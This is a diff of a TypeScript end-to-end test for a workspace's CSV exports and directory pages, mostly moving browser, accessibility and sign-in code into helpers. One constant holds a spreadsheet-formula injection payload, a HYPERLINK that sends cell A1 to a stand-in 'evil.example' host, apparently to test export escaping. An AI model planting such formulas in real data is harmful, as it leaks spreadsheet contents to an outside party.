@@ -10,8 +10,7 @@
  */
 import type { TestWorkflowEnvironment } from '@temporalio/testing';
 import { parse } from 'csv-parse/sync';
-import fs from 'node:fs';
-import { chromium, type Page } from 'playwright-core';
+import type { Page } from 'playwright-core';
 import * as ops from '../../app';
 import { createLifecycleRecords } from '../../store/lifecycle';
 import { recordSubmission } from '../../store/metrics';
@@ -22,7 +21,9 @@ import { devServerEnv, harness, type Harness } from '../helpers/env';
 import type { Reply } from '../helpers/http';
 import { applicationFor, exampleSites } from '../helpers/people';
 import { waitFor } from '../helpers/wait';
-import { followRedirect, serveWeb, signInByEmail, webAddress, type ServedWeb } from '../helpers/web';
+import { followRedirect, serveWeb, webAddress, type ServedWeb } from '../helpers/web';
+import { axeViolations, launchChromium } from '../helpers/browser';
+import { launchRecorded, signInEach } from '../helpers/launched';
 
 const KEY = 'workspace-test-signing-key-'.padEnd(48, 'w');
 const ADMIN = 'admin@network.example.org';
@@ -32,8 +33,6 @@ const PI = 'pi@formula.example.org';
 const SLUG = 'ws-exports';
 const EVIL_SITE = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
 const EVIL_PERSON = '=2+5 Mallory';
-const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
-const AXE = fs.readFileSync(require.resolve('axe-core/axe.min.js'), 'utf8');
 const BOM = [0xef, 0xbb, 0xbf];
 
 describe('the workspace: CSV exports and the network directory (real stack)', () => {
@@ -109,11 +108,7 @@ describe('the workspace: CSV exports and the network directory (real stack)', ()
     c.sites = ['bayview', 'formula'];
     c.coordinators = [{ name: 'Coordinator', email: COORD }];
     c.faculty = [{ name: 'Dr. Faculty', email: FACULTY }];
-    await ops.launch(env.client, h.db, h.taskQueue, c);
-    await waitFor(
-      'the collaborative’s record',
-      async () => (await ops.findCollaborative(h.db, SLUG)) ?? undefined,
-    );
+    await launchRecorded(env, h, c);
     web = await serveWeb(env, h, {
       key: KEY,
       baseUrl: base,
@@ -121,11 +116,7 @@ describe('the workspace: CSV exports and the network directory (real stack)', ()
       admins: [ADMIN],
       rateLimits: { signin: 1000, links: 1000 },
     });
-    for (const who of [ADMIN, COORD, FACULTY]) {
-      const s = await signInByEmail(web, h, KEY, who, base);
-      session[who] = s.token;
-      csrf[who] = s.csrf;
-    }
+    await signInEach(web, h, { key: KEY, baseUrl: base }, [ADMIN, COORD, FACULTY], { session, csrf });
     // A PI holds no role: a session of theirs (were they to have one) is a signed-in nobody.
     session[PI] = newSession(KEY, PI, Date.now());
   }, 180_000);
@@ -429,10 +420,7 @@ describe('the workspace: CSV exports and the network directory (real stack)', ()
   });
 
   it('shows the directory’s pages axe-clean at 1280 and 360 px, with no sideways scroll (headless Chromium)', async () => {
-    const browser = await chromium.launch({
-      executablePath: CHROMIUM,
-      args: ['--no-sandbox', '--headless', '--disable-gpu', '--disable-background-networking'],
-    });
+    const browser = await launchChromium();
     const findings: string[] = [];
     try {
       const context = await browser.newContext();
@@ -441,13 +429,7 @@ describe('the workspace: CSV exports and the network directory (real stack)', ()
       const check = async (p: Page, name: string, within?: string) => {
         for (const width of [1280, 360]) {
           await p.setViewportSize({ width, height: 900 });
-          if (!(await p.evaluate(() => 'axe' in window))) await p.evaluate(AXE);
-          const violations: string[] = await p.evaluate(async () => {
-            const r = await (window as any).axe.run(document, { resultTypes: ['violations'] });
-            return r.violations.map(
-              (v: any) => `${v.id}: ${v.nodes.map((x: any) => x.target.join(' ')).join(', ')}`,
-            );
-          });
+          const violations = await axeViolations(p);
           for (const v of violations) findings.push(`${name} @${width}: ${v}`);
           // The page (or, on a page of others' sections, the section of ours) fits the width.
           const wide = await p.evaluate((sel) => {
